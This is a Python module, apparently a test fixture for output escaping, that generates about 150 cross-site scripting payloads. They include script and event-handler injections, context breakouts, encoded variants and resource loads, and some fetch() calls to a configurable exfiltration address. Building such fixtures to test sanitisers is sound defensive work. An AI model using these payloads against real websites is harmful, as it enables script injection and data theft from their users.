"""A hundred and fifty texts that would like to be scripts, for every place where a text is shown."""

from __future__ import annotations

MARK = "document.documentElement.setAttribute('ran',1)"
"""What each of them tries to do; some try to send something out as well."""


def payloads(out: str = "http://127.0.0.1:9/out") -> list[str]:
    """All of them; `out` is where a request would go."""
    send = f"fetch('{out}')"
    code = f"{MARK};{send}"
    elements = [
        f"<script>{code}</script>",
        f"<ScRiPt>{code}</sCrIpT>",
        f"<script src={out}></script>",
        f"<script\n>{code}</script\n>",
        f"<script/x>{code}</script>",
        f"<svg onload={code}>",
        f"<svg><script>{code}</script></svg>",
        f"<svg><animate onbegin={code} attributeName=x dur=1s>",
        f"<svg/onload={code}//",
        f"<math><mtext></form><form><mglyph><style></math><img src onerror={code}>",
        f"<img src=x onerror={code}>",
        f'<img src={out} onload="{code}">',
        f"<img/src=x/onerror={code}>",
        f"<body onload={code}>",
        f"<iframe srcdoc='<script>parent.{MARK}</script>'></iframe>",
        f"<iframe src=javascript:parent.{MARK}></iframe>",
        f"<object data={out}></object>",
        f"<embed src={out}>",
        f"<link rel=stylesheet href={out}>",
        f"<style>@import '{out}';</style>",
        f"<style>*{{background:url({out})}}</style>",
        f"<base href={out}>",
        f"<meta http-equiv=refresh content='0;url={out}'>",
        f"<form action={out}><button autofocus onfocus={code}>x</form>",
        f"<input autofocus onfocus={code}>",
        f"<details open ontoggle={code}>x</details>",
        f"<video><source onerror={code}></video>",
        f"<audio src=x onerror={code}>",
        f"<marquee onstart={code}>x</marquee>",
        f"<a href=javascript:{MARK}>x</a>",
    ]
    breaks = ["", '">', "'>", "</style>", "</title></head>"]
    found = [before + element for before in breaks for element in elements[:21]]
    found += elements[21:]
    found += [
        f'" onload="{code}" x="',
        f"' onerror='{code}' x='",
        f'" style="background:url({out})" x="',
        f'" autofocus onfocus="{code}" x="',
        f"</script><script>{code}</script>",
        f"--><script>{code}</script>",
        f"]]><script>{code}</script>",
        f"*/</style><script>{code}</script>",
        f'");}} body{{background:url("{out}")}} x{{y:url("',
        f"&lt;script&gt;{code}&lt;/script&gt;",
        f"&#60;script&#62;{code}&#60;/script&#62;",
        f"\\u003cscript\\u003e{code}\\u003c/script\\u003e",
        f"+ADw-script+AD4-{code}+ADw-/script+AD4-",
        f"<<script>{code}//<</script>",
        f"<noscript><p title='</noscript><img src=x onerror={code}>'>",
        f"<textarea></textarea><script>{code}</script>",
        f"<template><script>{code}</script></template>",
        f"{{{{7*7}}}}{{% for x in y %}}<script>{code}</script>",
        f"${{{code}}}",
        f"javascript:{code}",
        f"data:text/html,<script>{code}</script>",
        f"![x](javascript:{code})",
        f"`;{code}//",
        f"';{code}//",
        f'";{code}//',
        "<!--",
        "<![CDATA[",
        "<plaintext>",
        "<",
        "&",
        f"\u2028<script>{code}</script>",
        f"\ufeff<script>{code}</script>",
        f"<scr\tipt>{code}</scr\tipt>",
        f"<img src='x' onerror\n=\n'{code}'>",
        f"＜script＞{code}＜/script＞",
        f"<xss style=behavior:url({out})>",
    ]
    return found
